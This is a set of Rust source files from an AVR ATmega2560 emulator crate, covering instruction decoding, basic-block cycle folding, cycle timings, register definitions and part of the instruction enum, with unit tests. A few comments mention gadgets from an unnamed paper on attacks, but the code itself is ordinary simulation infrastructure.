                a: bit_a(w),
                b: bit_b(w),
            },
            1,
        ),
        _ => (Insn::Mul { d: d5(w), r: r5(w) }, 1),
    }
}

fn adiw_reg(w: u16) -> Reg {
    Reg::new((24 + ((w >> 4) & 0x3) * 2) as u8)
}

fn adiw_k(w: u16) -> u8 {
    (((w >> 2) & 0x30) | (w & 0x0f)) as u8
}

fn bit_a(w: u16) -> u8 {
    ((w >> 3) & 0x1f) as u8
}

fn bit_b(w: u16) -> u8 {
    (w & 0x07) as u8
}

fn decode_94_95(w: u16, second: Option<u16>, invalid: (Insn, u32)) -> (Insn, u32) {
    // Exact-match specials first.
    match w {
        0x9409 => return (Insn::Ijmp, 1),
        0x9419 => return (Insn::Eijmp, 1),
        0x9508 => return (Insn::Ret, 1),
        0x9509 => return (Insn::Icall, 1),
        0x9518 => return (Insn::Reti, 1),
        0x9519 => return (Insn::Eicall, 1),
        0x9588 => return (Insn::Sleep, 1),
        0x9598 => return (Insn::Break, 1),
        0x95a8 => return (Insn::Wdr, 1),
        0x95c8 => return (Insn::Lpm0, 1),
        0x95d8 => return (Insn::Elpm0, 1),
        0x95e8 => return (Insn::Spm, 1),
        0x95f8 => return (Insn::SpmZPostInc, 1),
        _ => {}
    }
    if w & 0xff8f == 0x9408 {
        return (
            Insn::Bset {
                s: ((w >> 4) & 0x7) as u8,
            },
            1,
        );
    }
    if w & 0xff8f == 0x9488 {
        return (
            Insn::Bclr {
                s: ((w >> 4) & 0x7) as u8,
            },
            1,
        );
    }
    if w & 0xfe0e == 0x940c {
        return match second {
            Some(k) => (Insn::Jmp { k: long_addr(w, k) }, 2),
            None => invalid,
        };
    }
    if w & 0xfe0e == 0x940e {
        return match second {
            Some(k) => (Insn::Call { k: long_addr(w, k) }, 2),
            None => invalid,
        };
    }
    let d = d5(w);
    match w & 0x0f {
        0x0 => (Insn::Com { d }, 1),
        0x1 => (Insn::Neg { d }, 1),
        0x2 => (Insn::Swap { d }, 1),
        0x3 => (Insn::Inc { d }, 1),
        0x5 => (Insn::Asr { d }, 1),
        0x6 => (Insn::Lsr { d }, 1),
        0x7 => (Insn::Ror { d }, 1),
        0xa => (Insn::Dec { d }, 1),
        _ => invalid,
    }
}

fn long_addr(w: u16, k_low: u16) -> u32 {
    let hi = u32::from((w >> 4) & 0x1f);
    let bit16 = u32::from(w & 1);
    (hi << 17) | (bit16 << 16) | u32::from(k_low)
}

fn decode_f_group(w: u16, invalid: (Insn, u32)) -> (Insn, u32) {
    match (w >> 9) & 0x7 {
        0..=1 => (
            Insn::Brbs {
                s: (w & 0x7) as u8,
                k: sign_extend((w >> 3) & 0x7f, 7) as i8,
            },
            1,
        ),
        2..=3 => (
            Insn::Brbc {
                s: (w & 0x7) as u8,
                k: sign_extend((w >> 3) & 0x7f, 7) as i8,
            },
            1,
        ),
        _ => {
            if w & 0x08 != 0 {
                return invalid;
            }
            let reg = d5(w);
            let b = (w & 0x7) as u8;
            match (w >> 9) & 0x7 {
                4 => (Insn::Bld { d: reg, b }, 1),
                5 => (Insn::Bst { d: reg, b }, 1),
                6 => (Insn::Sbrc { r: reg, b }, 1),
                _ => (Insn::Sbrs { r: reg, b }, 1),
            }
        }
    }
}

/// Decode a little-endian byte image starting at `byte_offset` into one
/// instruction. Returns `None` if fewer than two bytes remain.
pub fn decode_at(bytes: &[u8], byte_offset: usize) -> Option<(Insn, u32)> {
    let w0 = word_at(bytes, byte_offset)?;
    match word_at(bytes, byte_offset + 2) {
        Some(w1) => Some(decode(&[w0, w1])),
        None => Some(decode(&[w0])),
    }
}

fn word_at(bytes: &[u8], off: usize) -> Option<u16> {
    let hi = *bytes.get(off + 1)?;
    let lo = bytes[off];
    Some(u16::from_le_bytes([lo, hi]))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::encode::encode;

    #[test]
    fn decodes_known_words() {
        assert_eq!(decode(&[0x9508]), (Insn::Ret, 1));
        assert_eq!(
            decode(&[0xbfde]),
            (
                Insn::Out {
                    a: 0x3e,
                    r: Reg::R29
                },
                1
            )
        );
        assert_eq!(decode(&[0x91cf]), (Insn::Pop { d: Reg::R28 }, 1));
        assert_eq!(
            decode(&[0x8259]),
            (
                Insn::Std {
                    idx: YZ::Y,
                    q: 1,
                    r: Reg::R5
                },
                1
            )
        );
        assert_eq!(decode(&[0x940c, 0x0200]), (Insn::Jmp { k: 0x200 }, 2));
        assert_eq!(decode(&[0x940f, 0x0002]), (Insn::Call { k: 0x1_0002 }, 2));
        assert_eq!(decode(&[0xcfff]), (Insn::Rjmp { k: -1 }, 1));
        assert_eq!(decode(&[0xf011]), (Insn::Brbs { s: 1, k: 2 }, 1));
    }

    #[test]
    fn truncated_long_form_is_invalid() {
        assert_eq!(decode(&[0x940c]), (Insn::Invalid(0x940c), 1));
        assert_eq!(decode(&[0x9180]), (Insn::Invalid(0x9180), 1));
    }

    #[test]
    fn reserved_words_are_invalid() {
        for w in [0x0001u16, 0x9003, 0x9204, 0x9404, 0xf808, 0x95b8] {
            let (insn, width) = decode(&[w, 0]);
            assert_eq!(insn, Insn::Invalid(w), "word {w:#06x}");
            assert_eq!(width, 1);
        }
    }

    #[test]
    fn every_single_word_encoding_round_trips() {
        // Exhaustive: decode every possible 16-bit word; re-encoding the
        // decoded instruction must reproduce the word bit for bit.
        for w in 0..=u16::MAX {
            let (insn, width) = decode(&[w, 0x0000]);
            if insn == Insn::Invalid(w) {
                continue;
            }
            let enc = encode(&insn)
                .unwrap_or_else(|e| panic!("word {w:#06x} -> {insn:?} failed to re-encode: {e}"));
            assert_eq!(enc[0], w, "word {w:#06x} decoded to {insn:?}");
            assert_eq!(width, insn.words());
        }
    }

    #[test]
    fn decode_at_handles_bounds() {
        let bytes = [0x08, 0x95, 0x0c];
        assert_eq!(decode_at(&bytes, 0), Some((Insn::Ret, 1)));
        assert_eq!(decode_at(&bytes, 2), None);
        assert_eq!(decode_at(&[], 0), None);
    }

    #[test]
    fn predecode_matches_decode_at_everywhere() {
        // ret; call 6; nop; jmp truncated at the image edge.
        let words: [u16; 5] = [0x9508, 0x940e, 0x0006, 0x0000, 0x940c];
        let bytes: Vec<u8> = words.iter().flat_map(|w| w.to_le_bytes()).collect();
        let table = predecode_image(&bytes);
        assert_eq!(table.len(), 5);
        for (w, entry) in table.iter().enumerate() {
            let (insn, width) = decode_at(&bytes, w * 2).unwrap();
            assert_eq!(entry.insn, insn, "word {w}");
            assert_eq!(entry.width as u32, width);
            assert_eq!(entry.cycles as u64, base_cycles(&insn));
        }
        // The truncated call at the edge decodes as Invalid, width 1.
        assert_eq!(table[4].insn, Insn::Invalid(0x940c));
        assert_eq!(table[4].width, 1);
    }

    #[test]
    fn predecode_patch_redecodes_neighbouring_word() {
        // call 6 at word 0 spans words 0..2; patching word 1 must re-decode
        // word 0 too, because word 1 is its second word.
        let mut bytes: Vec<u8> = [0x940eu16, 0x0006, 0x9508]
            .iter()
            .flat_map(|w| w.to_le_bytes())
            .collect();
        let mut table = predecode_image(&bytes);
        assert_eq!(table[0].insn, Insn::Call { k: 6 });

        bytes[2..4].copy_from_slice(&0x0042u16.to_le_bytes());
        predecode_patch(&mut table, &bytes, 2, 2);
        assert_eq!(table[0].insn, Insn::Call { k: 0x42 });
        assert_eq!(table[2].insn, Insn::Ret, "untouched word must survive");
        assert_eq!(table, predecode_image(&bytes));
    }
}
