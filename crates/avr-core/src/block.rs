//! Basic-block discovery and cycle folding over a [`Predecoded`] table.
//!
//! A *block* is a maximal straight-line run of instructions: execution that
//! enters at its first word always falls through every instruction in order,
//! so a simulator can charge the folded cycle total once and hoist its
//! per-instruction event checks (interrupt delivery, watchdog margin) to the
//! block boundary. What may end a block splits into two layers:
//!
//! * **structural** terminators — anything that redirects or conditions the
//!   program counter (branches, calls, returns, skips), halts (`break`,
//!   `sleep`, invalid words) or writes flash (`spm`). These are decided here,
//!   from the instruction alone: [`structural_end`].
//! * **policy** terminators — instructions whose *memory effects* interact
//!   with device state the walker cannot see (interrupt masks, timers,
//!   I/O-space registers that can raise IRQs). Those addresses belong to the
//!   simulator, so [`scan_block`] takes the policy as a closure.
//!
//! The walker never follows control flow: a block always ends *before* its
//! terminator, which the simulator executes on its careful per-instruction
//! path.

use crate::decode::Predecoded;
use crate::Insn;

/// Largest number of instructions folded into one block. Bounds the work a
/// single fused dispatch can do between event checks.
pub const MAX_BLOCK_INSNS: u16 = 64;

/// Largest word span of one block. Invalidating a flash range only needs to
/// look this many words left of the patch for block starts that reach it.
pub const MAX_BLOCK_WORDS: u16 = 128;

/// Policy verdict for one instruction during a block walk.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum FuseStep {
    /// The instruction is straight-line and may join the block.
    Fuse {
        /// The instruction may observe timer state (a load whose target the
        /// policy cannot prove is timer-free), so the simulator must keep
        /// the timer advanced instruction by instruction.
        timer_read: bool,
        /// The instruction can neither fault nor observe the program counter
        /// or cycle counter mid-block, so all of its bookkeeping can be
        /// folded to the block boundary.
        pure: bool,
    },
    /// Block boundary; the instruction is *not* included.
    End,
}

/// A discovered block: instruction count, word span, and the folded cycle
/// total, plus the properties the simulator's fused dispatch keys on.
///
/// `insns == 0` means the very first word was a terminator; such addresses
/// are not worth fusing and execute on the per-instruction path.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Block {
    /// Instructions in the block.
    pub insns: u16,
    /// Word span of the block (the sum of the instruction widths).
    pub words: u16,
    /// Folded base-cycle total. Exact, not an estimate: straight-line
    /// instructions have no dynamic cycle component (only taken branches and
    /// skips do, and those are terminators).
    pub cycles: u32,
    /// Whether any instruction reported `timer_read` (see [`FuseStep`]).
    pub timer_reads: bool,
    /// Whether *every* instruction reported `pure` (see [`FuseStep`]).
    pub pure: bool,
}

/// Whether `insn` ends a block for structural reasons, independent of any
/// device policy: control flow (including conditional branches and skips),
/// halting (`break`, `sleep`, reserved words), and flash self-programming.
pub fn structural_end(insn: &Insn) -> bool {
    insn.is_unconditional_branch()
        || insn.is_call()
        || insn.is_skip()
        || matches!(
            insn,
            Insn::Brbs { .. }
                | Insn::Brbc { .. }
                | Insn::Break
                | Insn::Sleep
                | Insn::Spm
                | Insn::SpmZPostInc
                | Insn::Invalid(_)
        )
}

/// Walk the predecoded `table` from word address `start`, folding straight-
/// line instructions into a [`Block`] until a structural terminator, a
/// [`FuseStep::End`] from `policy`, the end of the table, or the
/// [`MAX_BLOCK_INSNS`]/[`MAX_BLOCK_WORDS`] caps.
///
/// The policy closure is consulted *after* [`structural_end`], so it only
/// ever sees straight-line instructions.
pub fn scan_block(table: &[Predecoded], start: usize, policy: impl Fn(&Insn) -> FuseStep) -> Block {
    let mut b = Block {
        insns: 0,
        words: 0,
        cycles: 0,
        timer_reads: false,
        pure: true,
    };
    let mut w = start;
    while b.insns < MAX_BLOCK_INSNS {
        let Some(entry) = table.get(w) else { break };
        if structural_end(&entry.insn) {
            break;
        }
        let (timer_read, pure) = match policy(&entry.insn) {
            FuseStep::Fuse { timer_read, pure } => (timer_read, pure),
            FuseStep::End => break,
        };
        let width = u16::from(entry.width);
        if b.words + width > MAX_BLOCK_WORDS {
            break;
        }
        b.insns += 1;
        b.words += width;
        b.cycles += u32::from(entry.cycles);
        b.timer_reads |= timer_read;
        b.pure &= pure;
        w += usize::from(entry.width);
    }
    b
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::decode::predecode_image;
    use crate::encode::encode;
    use crate::Reg;

    fn image(insns: &[Insn]) -> Vec<Predecoded> {
        let bytes: Vec<u8> = insns
            .iter()
            .flat_map(|i| encode(i).unwrap())
            .flat_map(|w| w.to_le_bytes())
            .collect();
        predecode_image(&bytes)
    }

    fn fuse_all(_: &Insn) -> FuseStep {
        FuseStep::Fuse {
            timer_read: false,
            pure: true,
        }
    }

    #[test]
    fn folds_cycles_and_stops_at_terminator() {
        // ldi(1) + lds(2) + add(1) + ret(terminator)
        let table = image(&[
            Insn::Ldi { d: Reg::R16, k: 1 },
            Insn::Lds {
                d: Reg::R0,
                k: 0x200,
            },
            Insn::Add {
                d: Reg::R0,
                r: Reg::R16,
            },
            Insn::Ret,
        ]);
        let b = scan_block(&table, 0, fuse_all);
        assert_eq!(b.insns, 3);
        assert_eq!(b.words, 4, "lds is two words");
        assert_eq!(b.cycles, 1 + 2 + 1);
        assert!(b.pure);
    }

    #[test]
    fn policy_end_is_excluded_and_flags_accumulate() {
        let table = image(&[
            Insn::Ld {
                d: Reg::R0,
                ptr: crate::PtrReg::X,
            },
            Insn::Push { r: Reg::R0 },
            Insn::Out {
                a: 0x3f,
                r: Reg::R0,
            },
            Insn::Nop,
        ]);
        let policy = |i: &Insn| match i {
            Insn::Ld { .. } => FuseStep::Fuse {
                timer_read: true,
                pure: false,
            },
            Insn::Push { .. } => FuseStep::Fuse {
                timer_read: false,
                pure: false,
            },
            Insn::Out { .. } => FuseStep::End,
            _ => fuse_all(i),
        };
        let b = scan_block(&table, 0, policy);
        assert_eq!(b.insns, 2, "policy End excludes the out");
        assert!(b.timer_reads);
        assert!(!b.pure);
    }

    #[test]
    fn terminator_at_start_yields_empty_block() {
        let table = image(&[Insn::Rjmp { k: -1 }]);
        let b = scan_block(&table, 0, fuse_all);
        assert_eq!(b.insns, 0);
        assert_eq!(b.cycles, 0);
    }

    #[test]
    fn erased_flash_ends_immediately() {
        let table = predecode_image(&[0xff; 64]);
        let b = scan_block(&table, 3, fuse_all);
        assert_eq!(b.insns, 0, "0xffff decodes Invalid, a structural end");
    }

    #[test]
    fn every_structural_end_is_a_non_fused_boundary() {
        // Exhaustive over the one-word opcode space: anything that can move
        // the PC, halt, or program flash must be structural.
        for w in 0..=u16::MAX {
            let (insn, _) = crate::decode::decode(&[w, 0]);
            let structural = structural_end(&insn);
            let redirects = insn.is_unconditional_branch()
                || insn.is_call()
                || insn.is_skip()
                || matches!(
                    insn,
                    Insn::Brbs { .. } | Insn::Brbc { .. } | Insn::Invalid(_)
                );
            if redirects {
                assert!(structural, "{insn:?} must end a block");
            }
        }
        assert!(structural_end(&Insn::Jmp { k: 0 }));
        assert!(structural_end(&Insn::Call { k: 0 }));
    }

    #[test]
    fn caps_bound_runaway_blocks() {
        let table = image(&vec![Insn::Nop; 200]);
        let b = scan_block(&table, 0, fuse_all);
        assert_eq!(b.insns, MAX_BLOCK_INSNS);
        assert_eq!(b.words, MAX_BLOCK_INSNS);
        // All two-word instructions: the word cap binds first.
        let table = image(&vec![Insn::Lds { d: Reg::R0, k: 0 }; 200]);
        let b = scan_block(&table, 0, fuse_all);
        assert_eq!(b.words, MAX_BLOCK_WORDS);
        assert_eq!(b.insns, MAX_BLOCK_WORDS / 2);
    }

    #[test]
    fn scan_past_table_end_is_safe() {
        let table = image(&[Insn::Nop, Insn::Nop]);
        let b = scan_block(&table, 0, fuse_all);
        assert_eq!(b.insns, 2);
        let b = scan_block(&table, 5, fuse_all);
        assert_eq!(b.insns, 0);
    }
}
