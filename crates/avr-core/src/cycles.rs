//! Instruction timing for the AVRe+ core.
//!
//! Cycle counts follow the *AVR Instruction Set Manual* for parts with
//! more than 128 KiB of flash (the ATmega2560): `call`/`rcall`/`icall` take
//! one extra cycle because three PC bytes are pushed, and `ret`/`reti` take
//! 5 cycles. Branch/skip instructions cost one extra cycle when taken; that
//! dynamic component is added by the simulator, not here.

use crate::Insn;

/// The largest value [`base_cycles`] can return (`call`/`ret`/`reti`).
///
/// Predecoded caches rely on this to store the base cost in a `u8`.
pub const MAX_BASE_CYCLES: u64 = 5;

/// Base (not-taken / fall-through) cycle count of `insn` on an ATmega2560.
pub fn base_cycles(insn: &Insn) -> u64 {
    match insn {
        Insn::Nop
        | Insn::Add { .. }
        | Insn::Adc { .. }
        | Insn::Sub { .. }
        | Insn::Sbc { .. }
        | Insn::And { .. }
        | Insn::Or { .. }
        | Insn::Eor { .. }
        | Insn::Cp { .. }
        | Insn::Cpc { .. }
        | Insn::Mov { .. }
        | Insn::Movw { .. }
        | Insn::Ldi { .. }
        | Insn::Cpi { .. }
        | Insn::Subi { .. }
        | Insn::Sbci { .. }
        | Insn::Ori { .. }
        | Insn::Andi { .. }
        | Insn::Com { .. }
        | Insn::Neg { .. }
        | Insn::Swap { .. }
        | Insn::Inc { .. }
        | Insn::Dec { .. }
        | Insn::Asr { .. }
        | Insn::Lsr { .. }
        | Insn::Ror { .. }
        | Insn::Bset { .. }
        | Insn::Bclr { .. }
        | Insn::Bst { .. }
        | Insn::Bld { .. }
        | Insn::In { .. }
        | Insn::Out { .. }
        | Insn::Sleep
        | Insn::Wdr
        | Insn::Break => 1,

        // Skips cost 1 when not skipping; the simulator adds 1–2 when the
        // skip is taken (2 when skipping a two-word instruction).
        Insn::Cpse { .. } | Insn::Sbrc { .. } | Insn::Sbrs { .. } => 1,
        Insn::Sbic { .. } | Insn::Sbis { .. } => 1,

        Insn::Mul { .. }
        | Insn::Muls { .. }
        | Insn::Mulsu { .. }
        | Insn::Fmul { .. }
        | Insn::Fmuls { .. }
        | Insn::Fmulsu { .. }
        | Insn::Adiw { .. }
        | Insn::Sbiw { .. }
        | Insn::Sbi { .. }
        | Insn::Cbi { .. } => 2,

        Insn::Ld { .. } | Insn::Ldd { .. } | Insn::Lds { .. } => 2,
        Insn::St { .. } | Insn::Std { .. } | Insn::Sts { .. } => 2,
        Insn::Push { .. } => 2,
        Insn::Pop { .. } => 2,

        Insn::Lpm { .. } | Insn::Lpm0 | Insn::Elpm { .. } | Insn::Elpm0 => 3,
        Insn::Spm | Insn::SpmZPostInc => 1, // completion time modelled by flash controller

        Insn::Rjmp { .. } | Insn::Ijmp => 2,
        Insn::Eijmp => 2,
        Insn::Jmp { .. } => 3,

        // 22-bit-PC devices: one extra cycle over the 16-bit-PC figures.
        Insn::Rcall { .. } => 4,
        Insn::Icall | Insn::Eicall => 4,
        Insn::Call { .. } => 5,
        Insn::Ret | Insn::Reti => 5,

        // Conditional branches: 1 if not taken (+1 taken, added dynamically).
        Insn::Brbs { .. } | Insn::Brbc { .. } => 1,

        // Executing garbage still consumes time; model as 1 cycle before the
        // core faults.
        Insn::Invalid(_) => 1,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::Reg;

    #[test]
    fn max_base_cycles_bounds_every_opcode() {
        // Exhaustive over the first-word space: no decodable instruction may
        // exceed MAX_BASE_CYCLES, or predecoded u8 storage would truncate.
        for w in 0..=u16::MAX {
            let (insn, _) = crate::decode::decode(&[w, 0]);
            assert!(base_cycles(&insn) <= MAX_BASE_CYCLES, "{insn:?}");
        }
    }

    #[test]
    fn representative_timings() {
        assert_eq!(base_cycles(&Insn::Nop), 1);
        assert_eq!(base_cycles(&Insn::Push { r: Reg::R0 }), 2);
        assert_eq!(base_cycles(&Insn::Pop { d: Reg::R0 }), 2);
        assert_eq!(base_cycles(&Insn::Call { k: 0 }), 5);
        assert_eq!(base_cycles(&Insn::Ret), 5);
        assert_eq!(base_cycles(&Insn::Jmp { k: 0 }), 3);
        assert_eq!(base_cycles(&Insn::Rjmp { k: 0 }), 2);
        assert_eq!(base_cycles(&Insn::Lpm0), 3);
        assert_eq!(
            base_cycles(&Insn::Mul {
                d: Reg::R0,
                r: Reg::R1
            }),
            2
        );
    }
}
