//! General-purpose registers, the status register, and well-known I/O
//! addresses of the ATmega2560.

use std::fmt;

/// One of the 32 general-purpose registers `r0`..`r31`.
///
/// AVR registers are memory mapped into the bottom of the data address space
/// (`r0` at data address `0x0000`, …, `r31` at `0x001F`) — a property the
/// paper's attacks exploit directly: `stk_move` rewrites the stack pointer
/// via `out` and `write_mem_gadget` repairs registers by popping from a
/// crafted stack.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
#[allow(missing_docs)]
pub enum Reg {
    R0,
    R1,
    R2,
    R3,
    R4,
    R5,
    R6,
    R7,
    R8,
    R9,
    R10,
    R11,
    R12,
    R13,
    R14,
    R15,
    R16,
    R17,
    R18,
    R19,
    R20,
    R21,
    R22,
    R23,
    R24,
    R25,
    R26,
    R27,
    R28,
    R29,
    R30,
    R31,
}

impl Reg {
    /// All 32 registers in ascending order.
    pub const ALL: [Reg; 32] = Reg::ALL_BY_NUM;

    /// Construct from a register number `0..=31`.
    ///
    /// # Panics
    ///
    /// Panics if `n > 31`.
    pub fn new(n: u8) -> Reg {
        Reg::try_new(n).unwrap_or_else(|| panic!("register number {n} out of range"))
    }

    /// Construct from a register number, returning `None` if `n > 31`.
    pub const fn try_new(n: u8) -> Option<Reg> {
        if n <= 31 {
            Some(Reg::ALL_BY_NUM[n as usize])
        } else {
            None
        }
    }

    const ALL_BY_NUM: [Reg; 32] = [
        Reg::R0,
        Reg::R1,
        Reg::R2,
        Reg::R3,
        Reg::R4,
        Reg::R5,
        Reg::R6,
        Reg::R7,
        Reg::R8,
        Reg::R9,
        Reg::R10,
        Reg::R11,
        Reg::R12,
        Reg::R13,
        Reg::R14,
        Reg::R15,
        Reg::R16,
        Reg::R17,
        Reg::R18,
        Reg::R19,
        Reg::R20,
        Reg::R21,
        Reg::R22,
        Reg::R23,
        Reg::R24,
        Reg::R25,
        Reg::R26,
        Reg::R27,
        Reg::R28,
        Reg::R29,
        Reg::R30,
        Reg::R31,
    ];

    /// The register number `0..=31`.
    pub const fn num(self) -> u8 {
        self as u8
    }

    /// Whether this register is in the "upper" bank `r16..r31` addressable by
    /// immediate instructions (`ldi`, `cpi`, `subi`, …).
    pub const fn is_upper(self) -> bool {
        self.num() >= 16
    }

    /// The data-space address this register is memory mapped at.
    pub const fn data_address(self) -> u16 {
        self.num() as u16
    }
}

impl fmt::Display for Reg {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "r{}", self.num())
    }
}

/// SREG flag bit indices, for `bset`/`bclr`/`brbs`/`brbc` operands.
pub mod sreg {
    /// Carry.
    pub const C: u8 = 0;
    /// Zero.
    pub const Z: u8 = 1;
    /// Negative.
    pub const N: u8 = 2;
    /// Two's-complement overflow.
    pub const V: u8 = 3;
    /// Sign (N ^ V).
    pub const S: u8 = 4;
    /// Half carry.
    pub const H: u8 = 5;
    /// Bit copy storage.
    pub const T: u8 = 6;
    /// Global interrupt enable.
    pub const I: u8 = 7;
}

/// Well-known I/O-space addresses (the `A` operand of `in`/`out`).
///
/// The corresponding *data-space* address is `0x20` higher.
pub mod io {
    /// Stack pointer low byte. `out 0x3d, r28` is the tail of the paper's
    /// `stk_move` gadget (Fig. 4).
    pub const SPL: u8 = 0x3d;
    /// Stack pointer high byte.
    pub const SPH: u8 = 0x3e;
    /// Status register.
    pub const SREG: u8 = 0x3f;
    /// RAMPZ — extended Z pointer for `elpm` on >64 KiB-flash devices.
    pub const RAMPZ: u8 = 0x3b;
    /// EIND — extended indirect-jump register for `eijmp`/`eicall`.
    pub const EIND: u8 = 0x3c;

    /// Offset between an I/O address and its data-space alias.
    pub const DATA_SPACE_OFFSET: u16 = 0x20;

    /// Convert an I/O address to its data-space address.
    pub const fn to_data_address(a: u8) -> u16 {
        a as u16 + DATA_SPACE_OFFSET
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn reg_numbering_round_trips() {
        for n in 0..=31u8 {
            let r = Reg::new(n);
            assert_eq!(r.num(), n);
            assert_eq!(Reg::try_new(n), Some(r));
        }
        assert_eq!(Reg::try_new(32), None);
    }

    #[test]
    fn reg_display() {
        assert_eq!(Reg::R0.to_string(), "r0");
        assert_eq!(Reg::R28.to_string(), "r28");
        assert_eq!(Reg::R31.to_string(), "r31");
    }

    #[test]
    fn upper_bank() {
        assert!(!Reg::R15.is_upper());
        assert!(Reg::R16.is_upper());
    }

    #[test]
    fn memory_mapped_addresses() {
        assert_eq!(Reg::R28.data_address(), 28);
        assert_eq!(io::to_data_address(io::SPL), 0x5d);
        assert_eq!(io::to_data_address(io::SPH), 0x5e);
        assert_eq!(io::to_data_address(io::SREG), 0x5f);
    }

    #[test]
    #[should_panic(expected = "out of range")]
    fn reg_new_panics_out_of_range() {
        let _ = Reg::new(40);
    }
}
