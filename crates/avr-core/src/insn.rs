//! The AVRe+ instruction set as a typed enum.

use crate::Reg;

/// Pointer-register addressing mode for `ld`/`st`.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum PtrReg {
    /// `X` (r27:r26), no displacement.
    X,
    /// `X+` post-increment.
    XPostInc,
    /// `-X` pre-decrement.
    XPreDec,
    /// `Y+` post-increment (plain `Y` is `ldd`/`std` with q = 0).
    YPostInc,
    /// `-Y` pre-decrement.
    YPreDec,
    /// `Z+` post-increment (plain `Z` is `ldd`/`std` with q = 0).
    ZPostInc,
    /// `-Z` pre-decrement.
    ZPreDec,
}

impl PtrReg {
    /// Lowest register of the pointer pair this mode uses.
    pub fn base(self) -> Reg {
        match self {
            PtrReg::X | PtrReg::XPostInc | PtrReg::XPreDec => Reg::R26,
            PtrReg::YPostInc | PtrReg::YPreDec => Reg::R28,
            PtrReg::ZPostInc | PtrReg::ZPreDec => Reg::R30,
        }
    }
}

/// Base register selector for displacement loads/stores (`ldd`/`std`).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum YZ {
    /// `Y` (r29:r28) — the frame pointer in the avr-gcc ABI; the paper's
    /// `write_mem_gadget` stores through `Y` (Fig. 5).
    Y,
    /// `Z` (r31:r30).
    Z,
}

impl YZ {
    /// Lowest register of the pair.
    pub fn base(self) -> Reg {
        match self {
            YZ::Y => Reg::R28,
            YZ::Z => Reg::R30,
        }
    }
}

/// One decoded AVR instruction.
///
/// Addresses held by control-flow instructions (`Jmp`, `Call`, `Rjmp`,
/// `Rcall`, `Brbs`, `Brbc`) are in **words**, matching the hardware: flash is
/// word-addressed and the PC counts words. `Lds`/`Sts` addresses are in the
/// byte-addressed data space.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
#[allow(missing_docs)]
pub enum Insn {
    // ---- no-operand / misc ----
    Nop,
    Ret,
    Reti,
    Icall,
    Eicall,
    Ijmp,
    Eijmp,
    Sleep,
    Break,
    Wdr,
    Spm,
    SpmZPostInc,
    /// `lpm` short form: loads into r0 from Z.
    Lpm0,
    /// `elpm` short form: loads into r0 from RAMPZ:Z.
    Elpm0,

    // ---- two-register ALU ----
    Add {
        d: Reg,
        r: Reg,
    },
    Adc {
        d: Reg,
        r: Reg,
    },
    Sub {
        d: Reg,
        r: Reg,
    },
    Sbc {
        d: Reg,
        r: Reg,
    },
    And {
        d: Reg,
        r: Reg,
    },
    Or {
        d: Reg,
        r: Reg,
    },
    Eor {
        d: Reg,
        r: Reg,
    },
    Cp {
        d: Reg,
        r: Reg,
    },
    Cpc {
        d: Reg,
        r: Reg,
    },
    Cpse {
        d: Reg,
        r: Reg,
    },
    Mov {
        d: Reg,
        r: Reg,
    },
    Mul {
        d: Reg,
        r: Reg,
    },
    /// `movw`: move register pair; `d` and `r` must be even.
    Movw {
        d: Reg,
        r: Reg,
    },
    /// `muls`: signed multiply, registers r16..r31.
    Muls {
        d: Reg,
        r: Reg,
    },
    /// `mulsu`: signed × unsigned, registers r16..r23.
    Mulsu {
        d: Reg,
        r: Reg,
    },
    /// `fmul`: fractional multiply, registers r16..r23.
    Fmul {
        d: Reg,
        r: Reg,
    },
    Fmuls {
        d: Reg,
        r: Reg,
    },
    Fmulsu {
        d: Reg,
        r: Reg,
    },

    // ---- register + immediate (upper bank r16..r31) ----
    Ldi {
        d: Reg,
        k: u8,
    },
    Cpi {
        d: Reg,
        k: u8,
    },
    Subi {
        d: Reg,
        k: u8,
    },
    Sbci {
        d: Reg,
        k: u8,
    },
    Ori {
        d: Reg,
        k: u8,
    },
    Andi {
        d: Reg,
        k: u8,
    },

    // ---- single-register ALU ----
    Com {
        d: Reg,
    },
    Neg {
        d: Reg,
    },
    Swap {
        d: Reg,
    },
    Inc {
        d: Reg,
    },
    Dec {
        d: Reg,
    },
    Asr {
        d: Reg,
    },
    Lsr {
        d: Reg,
    },
    Ror {
        d: Reg,
    },

    // ---- word immediate on pairs r24/r26/r28/r30 ----
    /// `adiw`: add immediate (0..63) to word; `d` ∈ {24, 26, 28, 30}.
    Adiw {
        d: Reg,
        k: u8,
    },
    Sbiw {
        d: Reg,
        k: u8,
    },

    // ---- data transfer ----
    /// Indirect load with pre-dec/post-inc addressing.
    Ld {
        d: Reg,
        ptr: PtrReg,
    },
    /// Indirect store with pre-dec/post-inc addressing.
    St {
        ptr: PtrReg,
        r: Reg,
    },
    /// Load with displacement, `ldd Rd, Y+q` / `ldd Rd, Z+q` (q in 0..=63).
    /// `q == 0` is the plain `ld Rd, Y` / `ld Rd, Z` form.
    Ldd {
        d: Reg,
        idx: YZ,
        q: u8,
    },
    /// Store with displacement, `std Y+q, Rr` — the paper's
    /// `write_mem_gadget` opens with three of these (Fig. 5).
    Std {
        idx: YZ,
        q: u8,
        r: Reg,
    },
    /// Direct load from data space (32-bit encoding).
    Lds {
        d: Reg,
        k: u16,
    },
    /// Direct store to data space (32-bit encoding).
    Sts {
        k: u16,
        r: Reg,
    },
    /// Load from program memory at Z.
    Lpm {
        d: Reg,
        post_inc: bool,
    },
    /// Extended load from program memory at RAMPZ:Z.
    Elpm {
        d: Reg,
        post_inc: bool,
    },
    Push {
        r: Reg,
    },
    Pop {
        d: Reg,
    },
    In {
        d: Reg,
        a: u8,
    },
    Out {
        a: u8,
        r: Reg,
    },

    // ---- control flow ----
    /// Absolute jump to a 22-bit word address (32-bit encoding).
    Jmp {
        k: u32,
    },
    /// Absolute call to a 22-bit word address (32-bit encoding).
    Call {
        k: u32,
    },
    /// Relative jump, signed word offset −2048..=2047.
    Rjmp {
        k: i16,
    },
    /// Relative call, signed word offset −2048..=2047.
    Rcall {
        k: i16,
    },
